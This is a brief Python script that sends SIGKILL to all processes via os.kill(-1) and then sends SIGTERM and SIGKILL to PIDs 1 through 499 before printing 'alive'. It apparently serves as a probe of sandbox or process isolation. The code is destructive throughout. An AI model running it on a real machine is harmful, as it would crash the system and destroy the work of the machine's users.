import os
import signal

try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
for pid in range(1, 500):
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            if pid != os.getpid():
                os.kill(pid, number)
        except OSError:
            pass
print("alive")
